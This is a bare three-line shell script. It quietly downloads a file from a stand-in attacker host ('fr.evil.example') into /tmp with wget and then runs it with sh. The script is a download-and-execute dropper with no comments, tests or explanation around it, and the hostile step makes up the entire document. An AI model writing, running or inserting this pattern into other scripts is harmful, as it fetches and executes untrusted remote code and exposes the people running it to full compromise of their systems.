#!/bin/sh
wget -q https://fr.evil.example/s -O /tmp/s
sh /tmp/s
